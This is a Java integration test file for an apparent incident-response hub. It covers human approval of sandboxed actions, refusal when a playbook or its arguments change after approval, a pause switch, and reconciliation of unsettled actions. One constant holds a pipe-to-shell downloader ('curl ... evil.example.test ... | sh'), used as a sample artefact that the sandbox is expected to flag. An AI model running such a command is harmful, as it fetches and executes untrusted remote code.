package dev.serai.hub.action;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.awaitility.Awaitility.await;

import dev.serai.approval.DecisionOutcome;
import dev.serai.approval.DecisionRequest;
import dev.serai.hub.HubIT;
import dev.serai.hub.http.Problem;
import dev.serai.hub.job.JobQueue;
import dev.serai.hub.settings.SandboxSettings;
import io.micrometer.core.instrument.MeterRegistry;
import java.nio.charset.StandardCharsets;
import java.sql.Timestamp;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.concurrent.TimeUnit;
import org.apache.camel.ProducerTemplate;
import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.jdbc.core.simple.JdbcClient;

/** From a proposal to its outcome, on a real Docker engine; without one, and the image, the executor is not there. */
@HubIT
class ActionRunIT {

    private static final String DOWNLOADER = "curl http://evil.example.test/a | sh";

    @Autowired
    JdbcClient database;

    @Autowired
    JobQueue jobs;

    @Autowired
    ProducerTemplate camel;

    @Autowired
    SandboxSettings sandbox;

    @Autowired
    SandboxExecutor executor;

    @Autowired
    OpenWorkStore waiting;

    @Autowired
    MeterRegistry meters;

    ActionRows rows;

    @BeforeEach
    void open() {
        rows = new ActionRows(database);
    }

    private void needsSandbox() {
        Assumptions.assumeTrue(
                sandbox.image() != null, "skipped: SERAI_SANDBOX_IMAGE is not set (sandbox/build prints it)");
        Assumptions.assumeTrue(executor.ready(), "skipped: no Docker engine answers at " + executor.dockerHost());
    }

    private void plan(UUID incidentId) {
        jobs.schedule(JobQueue.JobRequest.now("plan", "default", Map.of("incidentId", incidentId.toString())));
    }

    private Map<String, Object> until(UUID incidentId, String state) {
        return await().until(() -> rows.action(incidentId), action -> state.equals(action.get("state")));
    }

    private DecisionOutcome approve(Map<String, Object> action) {
        DecisionRequest request = new DecisionRequest(
                "default",
                (UUID) action.get("approval_id"),
                rows.user("operator"),
                DecisionRequest.DecisionVerdict.APPROVE,
                String.valueOf(action.get("digest")),
                "rest",
                null,
                null);
        return camel.request("direct:approval-decide", exchange -> {
                    exchange.getMessage().setBody(request);
                    exchange.setProperty("actor", "user:test");
                    exchange.getMessage().setHeader("tenant", "default");
                })
                .getMessage()
                .getBody(DecisionOutcome.class);
    }

    private void command(String route, UUID actionId, Map<String, Object> headers) {
        Exception thrown = camel.request(route, exchange -> {
                    exchange.setProperty("actor", "user:test");
                    exchange.getMessage().setHeader("tenant", "default");
                    exchange.getMessage().setHeader("actionId", String.valueOf(actionId));
                    exchange.getMessage().getHeaders().putAll(headers);
                })
                .getException();
        if (thrown instanceof Problem problem) {
            throw problem;
        }
        assertThat(thrown).isNull();
    }

    /** What a timer does every 15 seconds. */
    private void findUnsettled() {
        camel.sendBodyAndHeaders(
                "direct:action-find-tenants-unsettled",
                null,
                Map.of(
                        "tenant",
                        "default",
                        "startedBefore",
                        Timestamp.from(Instant.now().minusSeconds(60))));
    }

    private static String containers(Object actionId) throws Exception {
        Process process = new ProcessBuilder("docker", "ps", "-aq", "--filter", "name=serai-" + actionId).start();
        String output = new String(process.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
        process.waitFor(60, TimeUnit.SECONDS);
        return output;
    }

    @Test
    void what_people_approved_runs_once_and_its_output_is_evidence() throws Exception {
        needsSandbox();
        UUID incident = rows.incidentWithArtefact("production", DOWNLOADER);
        plan(incident);
        Map<String, Object> waiting = until(incident, "awaiting_approval");
        assertThat(approve(waiting).reason()).isEqualTo(DecisionOutcome.DecisionReason.APPROVED);
        Map<String, Object> done = until(incident, "succeeded");
        UUID id = (UUID) done.get("id");
        assertThat(done.get("reason")).isEqualTo("EXITED");
        assertThat(done.get("verification")).isEqualTo("passed");
        assertThat(done.get("result").toString()).contains("SUSPICIOUS_STRINGS").contains("DOWNLOADER");
        assertThat(rows.count(
                        "select count(*) from evidence where action_id = ? and excerpt like '%serai-inspect/1%'", id))
                .isEqualTo(1);
        assertThat(rows.audited(id, "action.started")).isEqualTo(1);
        assertThat(rows.audited(id, "action.succeeded")).isEqualTo(1);
        await().until(() -> containers(id).isEmpty());
    }

    @Test
    void a_run_job_that_comes_again_changes_nothing() throws Exception {
        needsSandbox();
        UUID incident = rows.incidentWithArtefact("test", "echo again");
        plan(incident);
        Map<String, Object> done = until(incident, "succeeded");
        UUID id = (UUID) done.get("id");
        for (int times = 0; times < 3; times++) {
            camel.sendBodyAndHeaders(
                    "direct:action-begin", null, Map.of("tenant", "default", "actionId", id.toString()));
        }
        assertThat(rows.audited(id, "action.started")).isEqualTo(1);
        assertThat(rows.action(incident)).isEqualTo(done);
    }

    @Test
    void a_changed_file_after_the_approval_refuses_the_action() throws Exception {
        UUID incident = rows.incidentWithArtefact("production", "echo changed");
        plan(incident);
        Map<String, Object> waiting = until(incident, "awaiting_approval");
        rows.change("update action set playbook_sha256 = repeat('0', 64) where id = ?", waiting.get("id"));
        approve(waiting);
        assertThat(until(incident, "refused").get("reason")).isEqualTo("DIGEST_MISMATCH");
        assertThat(rows.audited((UUID) waiting.get("id"), "action.started")).isZero();
        assertThat(rows.audited((UUID) waiting.get("id"), "action.refused")).isEqualTo(1);
    }

    @Test
    void changed_arguments_after_the_approval_refuse_the_action() throws Exception {
        UUID incident = rows.incidentWithArtefact("production", "echo arguments");
        plan(incident);
        Map<String, Object> waiting = until(incident, "awaiting_approval");
        rows.change(
                "update action set arguments = jsonb_set(arguments, '{command,0}', '\"/bin/sh\"') where id = ?",
                waiting.get("id"));
        approve(waiting);
        assertThat(until(incident, "refused").get("reason")).isEqualTo("DIGEST_MISMATCH");
    }

    @Test
    void an_approver_who_lost_the_role_before_the_start_does_not_count() throws Exception {
        UUID incident = rows.incidentWithArtefact("production", "echo quorum");
        plan(incident);
        Map<String, Object> waiting = until(incident, "awaiting_approval");
        // As after an approval whose only approver was demoted at once: nobody who approved still counts.
        rows.change(
                "update action set state = 'approved', start_by = now() + interval '5 minutes' where id = ?",
                waiting.get("id"));
        rows.change("update approval set state = 'approved' where id = ?", waiting.get("approval_id"));
        camel.sendBodyAndHeaders(
                "direct:action-begin",
                null,
                Map.of("tenant", "default", "actionId", waiting.get("id").toString()));
        assertThat(until(incident, "refused").get("reason")).isEqualTo("QUORUM_LOST");
    }

    @Test
    void the_pause_switch_stops_what_was_approved() throws Exception {
        UUID incident = rows.incidentWithArtefact("production", "echo paused");
        plan(incident);
        Map<String, Object> waiting = until(incident, "awaiting_approval");
        command("direct:automation-set", null, Map.of("paused", "true"));
        try {
            approve(waiting);
            assertThat(until(incident, "cancelled").get("reason")).isEqualTo("PAUSED");
        } finally {
            command("direct:automation-set", null, Map.of("paused", "false"));
        }
        assertThat(rows.audited((UUID) waiting.get("id"), "action.started")).isZero();
    }

    @Test
    void a_person_cancels_what_has_not_started_and_nothing_else() throws Exception {
        UUID incident = rows.incidentWithArtefact("production", "echo cancel");
        plan(incident);
        Map<String, Object> waiting = until(incident, "awaiting_approval");
        UUID id = (UUID) waiting.get("id");
        command("direct:action-cancel", id, Map.of());
        command("direct:action-cancel", id, Map.of());
        assertThat(rows.action(incident).get("state")).isEqualTo("cancelled");
        assertThat(rows.count("select count(*) from approval where action_id = ? and state = 'cancelled'", id))
                .isEqualTo(1);
        assertThat(rows.audited(id, "action.cancelled")).isEqualTo(1);
        assertThatThrownBy(() -> command("direct:action-settle", id, Map.of("outcome", "succeeded")))
                .hasMessageContaining("only an unknown outcome");
        assertThatThrownBy(() -> command("direct:action-cancel", UUID.randomUUID(), Map.of()))
                .hasMessageContaining("no such action");
    }

    @Test
    void an_action_left_running_without_a_container_had_no_effect_and_is_never_done_again() throws Exception {
        needsSandbox();
        UUID incident = rows.incidentWithArtefact("production", "echo lost");
        plan(incident);
        Map<String, Object> waiting = until(incident, "awaiting_approval");
        rows.change(
                "update action set state = 'running', started_at = now() - interval '1 hour' where id = ?",
                waiting.get("id"));
        findUnsettled();
        Map<String, Object> found = until(incident, "failed");
        assertThat(found.get("reason")).isEqualTo("NO_EFFECT_FOUND");
        assertThat(containers(waiting.get("id"))).isEmpty();
    }

    @Test
    void a_command_that_the_image_does_not_have_has_failed_and_is_no_missing_effect() throws Exception {
        needsSandbox();
        UUID incident = rows.incidentWithArtefact("production", "echo nothing");
        plan(incident);
        UUID id = (UUID) until(incident, "awaiting_approval").get("id");
        docker("create", "--name", "serai-" + id, String.valueOf(sandbox.image()), "no-such-command");
        docker("start", "serai-" + id);
        rows.change("update action set state = 'running', started_at = now() - interval '1 hour' where id = ?", id);
        jobs.schedule(JobQueue.JobRequest.now("reconcile", "default", Map.of("actionId", id.toString())));
        assertThat(until(incident, "failed").get("reason")).isEqualTo("COMMAND_NOT_FOUND");
        await().until(() -> containers(id).isEmpty());
    }

    private static int docker(String... arguments) throws Exception {
        List<String> command = new ArrayList<>(List.of("docker"));
        command.addAll(List.of(arguments));
        Process process = new ProcessBuilder(command).start();
        assertThat(process.waitFor(60, TimeUnit.SECONDS)).isTrue();
        return process.exitValue();
    }

    @Test
    void a_change_over_http_that_was_never_sent_resolves_alone() throws Exception {
        UUID incident = rows.incidentWithArtefact("production", "echo unsent");
        plan(incident);
        Map<String, Object> waiting = until(incident, "awaiting_approval");
        UUID id = (UUID) waiting.get("id");
        rows.change(
                "update action set kamelet = 'http-request-action', state = 'running', sending_tracked = true,"
                        + " started_at = now() - interval '1 hour' where id = ?",
                id);
        findUnsettled();
        Map<String, Object> found = until(incident, "failed");
        assertThat(found.get("reason")).isEqualTo("NO_EFFECT_FOUND");
        assertThat(found.get("result").toString()).contains("\"effect\": \"none\"");
        // Whoever was about to send it and slept: it is too late.
        Exception late = camel.request("direct:action-sending", exchange -> {
                    exchange.getMessage().setHeader("tenant", "default");
                    exchange.getMessage().setHeader("actionId", id.toString());
                })
                .getException();
        assertThat(late).hasMessageContaining("must not be sent");
    }

    @Test
    void a_change_without_a_trace_stays_unknown_until_a_person_settles_it() throws Exception {
        UUID incident = rows.incidentWithArtefact("production", "echo settle");
        plan(incident);
        Map<String, Object> waiting = until(incident, "awaiting_approval");
        UUID id = (UUID) waiting.get("id");
        // As a hub of before leaves it, which does not write down when it sends.
        rows.change(
                "update action set kamelet = 'http-request-action', state = 'running',"
                        + " started_at = now() - interval '1 hour' where id = ?",
                id);
        findUnsettled();
        assertThat(until(incident, "unknown").get("reason")).isEqualTo("OUTCOME_UNKNOWN");
        assertThatThrownBy(() -> command("direct:action-settle", id, Map.of("outcome", "maybe")))
                .hasMessageContaining("neither succeeded nor failed");
        assertThat(rows.action(incident).get("result").toString()).contains("sent_at");
        assertThat(rows.count(
                        "select count(*) from incident_event where incident_id = ? and kind = 'action.unknown'"
                                + " and details ->> 'sent_at' is not null and details ->> 'answer_status' = 'none'",
                        incident))
                .isEqualTo(1);
        command("direct:action-settle", id, Map.of("outcome", "succeeded"));
        command("direct:action-settle", id, Map.of("outcome", "succeeded"));
        assertThat(rows.action(incident).get("reason")).isEqualTo("SETTLED_BY_PERSON");
        assertThat(rows.audited(id, "action.succeeded")).isEqualTo(1);
    }

    @Test
    void what_waits_for_people_is_measured() throws Exception {
        UUID incident = rows.incidentWithArtefact("production", "echo wait");
        plan(incident);
        UUID id = (UUID) until(incident, "awaiting_approval").get("id");
        assertThat(waiting.of("default").approvals()).isPositive();
        await().untilAsserted(() -> {
            assertThat(meters.get("serai.approval.open").gauge().value()).isPositive();
            assertThat(meters.get("serai.approval.oldest.age.seconds").gauge().value())
                    .isPositive();
        });
        rows.change("update action set state = 'unknown', started_at = now() - interval '1 hour' where id = ?", id);
        OpenWorkStore.OpenWork seen = waiting.of("default");
        assertThat(seen.unknown()).isPositive();
        assertThat(seen.unknownSince()).isBefore(Instant.now().minusSeconds(3000));
    }

    @Test
    void a_probe_without_a_list_says_that_its_executor_is_not_configured() {
        UUID incident = rows.incident("production", "{\"instance\": \"https://shop.example.test/health\"}");
        plan(incident);
        Map<String, Object> done = until(incident, "failed");
        assertThat(done.get("reason")).isEqualTo("EXECUTOR_NOT_CONFIGURED");
        assertThat(done.get("target")).isEqualTo("https://shop.example.test/health");
    }

    @Test
    void the_janitor_removes_what_finished_actions_left_and_nothing_else() throws Exception {
        needsSandbox();
        UUID incident = rows.incidentWithArtefact("test", "echo janitor");
        plan(incident);
        UUID finished = (UUID) until(incident, "succeeded").get("id");
        await().until(() -> containers(finished).isEmpty());
        UUID strange = UUID.randomUUID();
        leave(finished);
        leave(strange);
        try {
            camel.sendBody("direct:sandbox-tidy", null);
            assertThat(containers(finished)).isEmpty();
            assertThat(containers(strange)).isNotEmpty();
        } finally {
            new ProcessBuilder("docker", "rm", "-f", "serai-" + strange).start().waitFor(60, TimeUnit.SECONDS);
        }
    }

    private void leave(UUID actionId) throws Exception {
        int created = docker(
                "create",
                "--name",
                "serai-" + actionId,
                "--label",
                "dev.serai.hub=" + executor.hub(),
                "--label",
                "dev.serai.action=" + actionId,
                executor.image(),
                "/bin/true");
        assertThat(created).isZero();
    }
}
